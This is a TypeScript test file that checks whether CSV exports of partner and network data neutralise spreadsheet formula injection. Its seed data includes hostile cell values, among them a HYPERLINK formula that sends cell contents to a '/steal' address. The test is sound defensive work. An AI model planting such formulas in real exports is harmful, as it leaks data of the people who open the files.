import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../helpers/export-parsers.js';
import { editorToken } from '../helpers/test-tokens.js';
import { useSeededService } from '../helpers/seeded-service.js';

const PROJECT = 'from-gaps-to-caps';

/** Cell values a spreadsheet would run as formulas, each given to one new organisation's name. */
const HOSTILE_NAMES = [
  '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Details")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tx',
  '\rx',
  '＝1+1',
];

/** Other text columns, filled through the curation API. */
const HOSTILE_FIELDS = {
  acronym: '=1+1',
  city: '-cmd',
  note: '@note',
  task: '+task',
};

// Formula injection through the CSV exports: an editor (or an older import)
// stores text that starts like a formula; an analyst opens the export in a
// spreadsheet. Every such cell must come out as text, with a leading quote.
describe('CSV exports neutralise formula-like cells', () => {
  const ids = HOSTILE_NAMES.map((_, index) => `formula-org-${index}`);

  const mutate = async (query: string, variables: Record<string, unknown>) => {
    const response = await fetch(`${seeded.api.url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${await editorToken()}`,
      },
      body: JSON.stringify({ query, variables }),
    });
    const body = (await response.json()) as { errors?: unknown[] };
    expect(body.errors).toBeUndefined();
  };

  const seeded = useSeededService();

  beforeAll(async () => {
    for (const [index, id] of ids.entries()) {
      await mutate(
        'mutation ($input: CreateOrganisationInput!) { createOrganisation(input: $input) { id } }',
        {
          input: {
            id,
            name: `Formula Organisation ${index}`,
            kind: 'OTHER',
            acronym: HOSTILE_FIELDS.acronym,
            city: HOSTILE_FIELDS.city,
          },
        },
      );
      await mutate(
        'mutation ($input: ParticipationInput!) { addParticipation(input: $input) { role } }',
        {
          input: {
            organisationId: id,
            projectId: PROJECT,
            role: 'PARTNER',
            note: HOSTILE_FIELDS.note,
            task: HOSTILE_FIELDS.task,
          },
        },
      );
      // Stored directly: curation may refuse or trim some of these names today,
      // but an export must not depend on how the value came in.
      const [updated] = await seeded.graph.write<{ id: string }>('testing/set-organisation-name', {
        id,
        name: HOSTILE_NAMES[index],
      });
      expect(updated?.id).toBe(id);
    }
  });

  const csvRows = async (path: string) => {
    const response = await fetch(`${seeded.api.url}${path}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    return parseCsv(Buffer.from(await response.arrayBuffer()));
  };

  it('partners.csv: names, acronyms, cities, notes and tasks start with a quote', async () => {
    const rows = await csvRows(`/exports/projects/${PROJECT}/partners.csv`);
    const hostile = rows.filter((row) => ids.includes(row.organisationId ?? ''));
    expect(hostile).toHaveLength(ids.length);
    for (const row of hostile) {
      const index = ids.indexOf(row.organisationId ?? '');
      expect(row.organisation).toBe(`'${HOSTILE_NAMES[index]}`);
      expect(row.acronym).toBe(`'${HOSTILE_FIELDS.acronym}`);
      expect(row.city).toBe(`'${HOSTILE_FIELDS.city}`);
      expect(row.note).toBe(`'${HOSTILE_FIELDS.note}`);
      expect(row.task).toBe(`'${HOSTILE_FIELDS.task}`);
    }
    // Ordinary cells are left as they are.
    const ordinary = rows.filter((row) => !ids.includes(row.organisationId ?? ''));
    expect(ordinary.length).toBeGreaterThan(0);
    for (const row of ordinary) expect(row.organisation?.startsWith("'")).toBe(false);
  });

  it('network-nodes.csv: labels and acronyms start with a quote, counts stay numbers', async () => {
    const rows = await csvRows(`/exports/network-nodes.csv?projectIds=${PROJECT}`);
    const hostile = rows.filter((row) => ids.includes(row.Id ?? ''));
    expect(hostile).toHaveLength(ids.length);
    for (const row of hostile) {
      const index = ids.indexOf(row.Id ?? '');
      expect(row.Label).toBe(`'${HOSTILE_NAMES[index]}`);
      expect(row.Acronym).toBe(`'${HOSTILE_FIELDS.acronym}`);
      expect(row.ProjectCount).toMatch(/^\d+$/);
    }
  });

  it('no cell of any CSV export starts like a formula', async () => {
    const files = [
      `/exports/projects/${PROJECT}/partners.csv`,
      `/exports/network-nodes.csv?projectIds=${PROJECT}`,
      `/exports/network-edges.csv?projectIds=${PROJECT}`,
    ];
    for (const file of files) {
      const rows = await csvRows(file);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
      }
    }
  });
});
